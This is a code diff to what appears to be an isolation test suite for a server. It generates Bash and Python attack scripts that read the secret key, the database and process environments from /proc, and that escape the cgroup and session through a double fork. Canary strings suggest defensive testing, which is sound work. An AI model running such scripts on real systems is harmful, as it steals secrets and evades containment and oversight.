@@ -8,7 +8,7 @@
  */
 
 export type AttackTargets = {
-  /** The server's data directory (holding secret.key, signalbox.db, tasks/, repos/, home/). */
+  /** The server's data directory (holding secret.key, the SQLite database, tasks/, repos/, home/). */
   dataDir: string;
   /** A name unique to this run: the files the attack writes and the process it leaves carry it. */
   mark: string;
@@ -30,7 +30,7 @@ export const poisonPaths = (t: AttackTargets) => ({
 /**
  * The Bash attack. It walks /proc for every process's environment and command line, reads the data directory
  * and every repository cache in it, writes the poison files, and leaves a `sleep` behind after moving itself out of
- * its cgroup (root may) and out of its session.
+ * its cgroup (root may) and out of its session through a double fork (what isolation cannot follow).
  */
 export function bashAttack(t: AttackTargets): string {
   const p = poisonPaths(t);
@@ -41,13 +41,10 @@ echo "--- data directory"
 ls -la "$DATA" 2>&1 | head -20
 echo "SECRET-KEY $(cat "$DATA/secret.key" 2>&1)"
 echo "--- database"
-grep -a -o 'dbcanary[0-9a-z]*' "$DATA/signalbox.db" 2>&1 | head -3
+cat "$DATA"/*.db* 2>&1 | grep -a -o 'dbcanary[0-9a-z]*' | head -3
 echo "--- processes"
-for d in /proc/[0-9]*; do
-  env=$(tr '\\0' '\\n' < "$d/environ" 2>/dev/null | grep -E 'canary|SIGNALBOX_|SEMAPHORE_')
-  [ -n "$env" ] && echo "ENV $d: $env"
-  echo "CMDLINE $d: $(tr '\\0' ' ' < "$d/cmdline" 2>/dev/null)"
-done
+grep -a -o -H -P '[A-Z_]+=[^\\x00]*canary[0-9a-z]*|SIGNALBOX_[A-Z_]+=[^\\x00]*' /proc/[0-9]*/environ 2>/dev/null | sed 's/^/ENV /'
+grep -a -o -H -P '[^\\x00]*signalbox[^\\x00]*' /proc/[0-9]*/cmdline 2>/dev/null | sed 's/^/CMDLINE /'
 echo "--- other tasks"
 for f in "$DATA"/tasks/*/*; do [ -f "$f" ] && echo "TASKFILE $f: $(head -c 200 "$f" 2>&1)"; done
 echo "--- repository caches"
@@ -62,7 +59,14 @@ echo "--- leftover"
 for m in $(grep ' - cgroup2 ' /proc/self/mountinfo | awk '{print $5}'); do
   echo $$ > "$m/cgroup.procs" 2>/dev/null && echo "MOVED to $m"
 done
-setsid sleep ${t.sleepSeconds} > /dev/null 2>&1 < /dev/null &
+# A double fork: the subshell is gone before anything can see whose child the sleep was. Then wait until the
+# sleep leads a session of its own, so this script's end cannot take it along.
+( setsid sleep ${t.sleepSeconds} > /dev/null 2>&1 < /dev/null & )
+for i in $(seq 100); do
+  sid=$(ps -o sid= -p "$(pgrep -x -f 'sleep ${t.sleepSeconds}')" 2>/dev/null | tr -d ' ')
+  [ -n "$sid" ] && [ "$sid" != "$$" ] && break
+  sleep 0.05
+done
 echo "ATTACK END"
 `;
 }
@@ -86,7 +90,12 @@ except OSError as e:
     print("denied:", e)
 print("SECRET-KEY", read(os.path.join(DATA, "secret.key")))
 print("--- database")
-db = read(os.path.join(DATA, "signalbox.db"), 50_000_000)
+try:
+    files = [f for f in os.listdir(DATA) if ".db" in f]
+except OSError as e:
+    files = []
+    print("denied:", e)
+db = "".join(read(os.path.join(DATA, f), 50_000_000) for f in files)
 print(set(re.findall(r"dbcanary[0-9a-z]*", db)))
 print("--- processes")
 for pid in os.listdir("/proc"):
